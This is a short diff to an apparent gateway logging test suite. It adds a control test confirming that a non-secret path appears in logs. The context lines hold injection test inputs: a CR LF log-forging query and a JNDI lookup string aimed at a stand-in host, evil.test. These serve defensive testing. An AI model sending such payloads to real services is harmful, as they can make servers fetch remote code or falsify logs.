@@ -61,6 +61,12 @@ test.each(requests)('no secret is logged: %s', async (_, bytes) => {
   }
 });
 
+test('control: what may be logged, such as a path, is found where the secrets are looked for', async () => {
+  expect(await logged(request(`GET /public/${secret}`))).toContain(secret);
+  const answer = await sendRaw(world.gateway.port, request(`GET /public/${secret}`));
+  expect(answer.text()).toContain(secret);
+});
+
 const injections: readonly (readonly [name: string, bytes: string])[] = [
   ['CR LF escapes in the query', request('GET /public/x?a=%0d%0a{"level":"info"}')],
   ['a host', request('GET /x').replace('a.test', `\${jndi:ldap://evil.test/a}`)],
